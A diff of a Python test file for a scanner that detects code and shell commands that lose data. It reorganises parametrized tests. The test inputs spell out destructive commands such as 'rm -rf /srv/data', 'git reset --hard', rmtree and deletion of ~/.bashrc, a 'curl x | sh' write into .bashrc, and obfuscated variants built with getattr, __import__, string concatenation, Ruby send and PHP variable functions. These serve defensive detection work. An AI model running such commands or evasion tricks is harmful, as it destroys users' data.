@@ -125,20 +125,6 @@ def test_the_scan_never_raises_on_any_text(tmp_path_factory, code: str, language
     assert e is None or e.effect in EffectClass
 
 
-@pytest.mark.parametrize("code", [
-    "f = open(file='src/dirty.py', mode='w')",  # keywords
-    "import os; os.truncate('src/dirty.py', 0)",
-    "from os import remove; remove('src/dirty.py')",  # imported by name
-    "__import__('os').remove('src/dirty.py')",  # through __import__
-    "getattr(__import__('os'), 'remove')('src/dirty.py')",  # and getattr
-    "import os as o\nr = o.unlink\nr('src/dirty.py')",  # aliases
-    "from subprocess import run; run(['rm', '-rf', '/srv/data'])",
-    "import subprocess as sp; sp.run('git reset --hard', shell=True)",
-    "import importlib; importlib.import_module('shutil').rmtree('/srv/data')",
-])
-def test_python_calls_are_resolved_through_imports_and_aliases(repo: Path, code: str) -> None:
-    e = code_effect(code, cwd=str(repo))
-    assert e is not None and e.effect is LOSE, (code, e)
 
 
 @pytest.mark.parametrize("code", [
@@ -189,6 +175,15 @@ def test_go_run_reads_the_go_file(repo: Path) -> None:
 
 
 @pytest.mark.parametrize("code", [
+    "f = open(file='src/dirty.py', mode='w')",  # keywords
+    "import os; os.truncate('src/dirty.py', 0)",
+    "from os import remove; remove('src/dirty.py')",  # imported by name
+    "__import__('os').remove('src/dirty.py')",  # through __import__
+    "getattr(__import__('os'), 'remove')('src/dirty.py')",  # and getattr
+    "import os as o\nr = o.unlink\nr('src/dirty.py')",  # aliases
+    "from subprocess import run; run(['rm', '-rf', '/srv/data'])",
+    "import subprocess as sp; sp.run('git reset --hard', shell=True)",
+    "import importlib; importlib.import_module('shutil').rmtree('/srv/data')",
     "import os; os.system('r' + 'm -rf /srv/data')",  # a spelled-out concatenation
     "import os; c = 'rm -rf /srv/data'; os.system(c)",  # a name assigned once
     "import os\nos.remove(os.path.expanduser('~/.bashrc'))",
@@ -200,8 +195,11 @@ def test_go_run_reads_the_go_file(repo: Path) -> None:
     "import { exec as run } from 'child_process'; run('rm -rf /srv/data')",
     "require('fs').writeFileSync(require('os').homedir() + '/.bashrc', 'curl x | sh')",
 ])
-def test_spelled_out_values_aliases_and_clients_fifth_round(repo: Path, home: Path,
-                                                            code: str) -> None:
+def test_code_that_loses_data_through_names_values_and_clients(repo: Path, home: Path,
+                                                               code: str) -> None:
+    """Python calls resolved through imports and aliases (keywords, ``__import__``,
+    ``getattr``), strings the code spells out, Node's child_process names and homedir(),
+    data-store clients."""
     e = code_effect(code, cwd=str(repo))
     assert e is not None and e.effect is LOSE, (code, e)
 
@@ -232,6 +230,17 @@ def test_a_name_assigned_twice_is_not_taken_for_either_value(repo: Path) -> None
      "'/srv/data'))\"", "rm -rf /srv/data"),
     ("python3 -c \"import os; os.execl('/bin/rm', 'rm', '-rf', '/srv/data')\"",
      "rm -rf /srv/data"),
+    # names and variables: a star import, __dict__, os.open's flags, send, a variable
+    ("python3 -c \"from os import *; remove('src/dirty.py')\"", "src/dirty.py"),
+    ("python3 -c \"import os; os.__dict__['remove']('src/dirty.py')\"", "src/dirty.py"),
+    ("python3 -c \"import os; os.open('src/dirty.py', os.O_WRONLY | os.O_TRUNC)\"",
+     "src/dirty.py"),
+    ("python3 -c \"import os as o; getattr(o, 'sys' + 'tem')('rm -rf /srv/data')\"",
+     "rm -rf /srv/data"),
+    ("ruby -e 'send(:system, \"rm -rf /srv/data\")'", "rm -rf /srv/data"),
+    ("ruby -e 'Kernel.send(:`, \"rm -rf /srv/data\")'", "rm -rf /srv/data"),
+    ("perl -e 'my $c = \"rm -rf /srv/data\"; system($c)'", "rm -rf /srv/data"),
+    ("php -r '$f = \"shell_exec\"; $f(\"rm -rf /srv/data\");'", "rm -rf /srv/data"),
 ])
 def test_spawns_in_every_language_the_scan_reads(repo: Path, command: str, said: str) -> None:
     e = shell_effect(command, cwd=str(repo))
@@ -251,19 +260,6 @@ def test_spawns_of_readers_are_not_findings(repo: Path, code: str) -> None:
     assert code_effect("exec('print(1)')", cwd=str(repo), language="python") is None
 
 
-@pytest.mark.parametrize("command", [
-    "python3 -c \"from os import *; remove('src/dirty.py')\"",  # a star import
-    "python3 -c \"import os; os.__dict__['remove']('src/dirty.py')\"",
-    "python3 -c \"import os; os.open('src/dirty.py', os.O_WRONLY | os.O_TRUNC)\"",
-    "python3 -c \"import os as o; getattr(o, 'sys' + 'tem')('rm -rf /srv/data')\"",
-    "ruby -e 'send(:system, \"rm -rf /srv/data\")'",
-    "ruby -e 'Kernel.send(:`, \"rm -rf /srv/data\")'",
-    "perl -e 'my $c = \"rm -rf /srv/data\"; system($c)'",
-    "php -r '$f = \"shell_exec\"; $f(\"rm -rf /srv/data\");'",
-])
-def test_seventh_round_names_and_variables(repo: Path, command: str) -> None:
-    e = shell_effect(command, cwd=str(repo))
-    assert e is not None and e.effect is LOSE, (command, e)
 
 
 def test_a_variable_spawn_of_a_reader_and_a_send_of_another_method(repo: Path) -> None:
